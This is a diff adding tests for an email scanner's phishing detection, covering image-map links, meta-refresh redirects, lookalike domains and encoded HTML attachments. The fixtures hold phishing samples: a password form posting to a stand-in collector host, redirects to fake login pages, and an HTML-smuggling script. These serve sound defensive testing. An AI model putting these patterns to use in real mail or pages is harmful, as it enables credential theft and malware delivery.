@@ -1,0 +1,76 @@
+import { describe, expect, it } from "vitest";
+import { attachmentSignals } from "../../../../server/mail/scan/attachments";
+import { BuiltinScanner } from "../../../../server/mail/scan/scanner";
+import { extractLinks, urlSignals } from "../../../../server/mail/scan/urls";
+import { buildRaw, scanInput } from "./support/messages";
+
+async function ids(filename: string, content: Buffer, contentType?: string): Promise<string[]> {
+  return (await attachmentSignals([{ filename, content, ...(contentType ? { contentType } : {}) }]))
+    .map((s) => s.id)
+    .sort();
+}
+
+const PHISH_PAGE =
+  '<html><body><form action="https://collector.example/p"><input type="password" name="p"></form></body></html>';
+
+function utf16(text: string, order: "le" | "be", bom: boolean): Buffer {
+  const le = Buffer.from(text, "utf16le");
+  const body = order === "le" ? le : Buffer.from(le).swap16();
+  const mark = order === "le" ? [0xff, 0xfe] : [0xfe, 0xff];
+  return bom ? Buffer.concat([Buffer.from(mark), body]) : body;
+}
+
+describe("links of image maps and refreshes in the body", () => {
+  it("extracts <area href> links and checks them", async () => {
+    // Only <a> was read: an image map's regions went unchecked.
+    const html =
+      '<img src="cid:banner" usemap="#m"><map name="m"><area shape="rect" coords="0,0,600,200" href="http://198.51.100.7/o365/login" alt="Sign in"></map>';
+    const links = extractLinks(html, undefined);
+    expect(links).toContainEqual({ href: "http://198.51.100.7/o365/login", text: null });
+    expect(urlSignals(links).map((s) => s.id)).toContain("url.ip_host");
+  });
+
+  it("extracts a meta refresh target, in either attribute order and quoting", async () => {
+    const html = [
+      '<meta http-equiv="refresh" content="0;url=https://bit.ly/3xYz">',
+      "<META CONTENT=\"2; URL='https://c0ntoso.com/login'\" HTTP-EQUIV=Refresh>",
+      '<meta http-equiv="refresh" content="300">',
+    ].join("");
+    const hrefs = extractLinks(html, undefined).map((l) => l.href);
+    expect(hrefs).toEqual(["https://bit.ly/3xYz", "https://c0ntoso.com/login"]);
+  });
+
+  it("checks a refresh in the body against the tenant's domains", async () => {
+    const raw = buildRaw({
+      html: '<html><head><meta http-equiv="refresh" content="0; url=https://login.c0ntoso.com/"></head><body>Loading</body></html>',
+    });
+    const assessment = await new BuiltinScanner().assess(await scanInput(raw));
+    expect(assessment.signals.map((s) => s.id)).toContain("impersonation.lookalike_domain");
+  });
+});
+
+describe("attached web pages", () => {
+  it("flags a page that only forwards its reader to a website", async () => {
+    const page =
+      '<html><head><meta http-equiv="refresh" content="0;url=https://collector.example/m365"></head></html>';
+    expect(await ids("Remittance.html", Buffer.from(page))).toEqual(["attachment.html_form"]);
+    const relative = '<html><head><meta http-equiv="refresh" content="30;url=page2.html"></head></html>';
+    expect(await ids("slides.html", Buffer.from(relative))).toEqual([]);
+  });
+
+  it.each([
+    ["UTF-16LE with a byte order mark", utf16(PHISH_PAGE, "le", true), undefined],
+    ["UTF-16BE with a byte order mark", utf16(PHISH_PAGE, "be", true), undefined],
+    ["UTF-16LE without a mark", utf16(PHISH_PAGE, "le", false), undefined],
+    ["UTF-16BE declared by its charset", utf16(PHISH_PAGE, "be", false), "text/html; charset=utf-16be"],
+  ])("decodes a page written in %s before checking it", async (_how, content, contentType) => {
+    // Read as latin1, "<\0f\0o\0r\0m\0" matched nothing: the password form passed.
+    expect(await ids("Invoice.htm", content, contentType)).toEqual(["attachment.html_form"]);
+  });
+
+  it("finds smuggling in a UTF-16 page that has no web page name", async () => {
+    const smuggle =
+      '<html><script>var b=atob("TVqQ");var u=URL.createObjectURL(new Blob([b]));</script></html>';
+    expect(await ids("Invoice", utf16(smuggle, "le", true))).toEqual(["attachment.html_smuggling"]);
+  });
+});
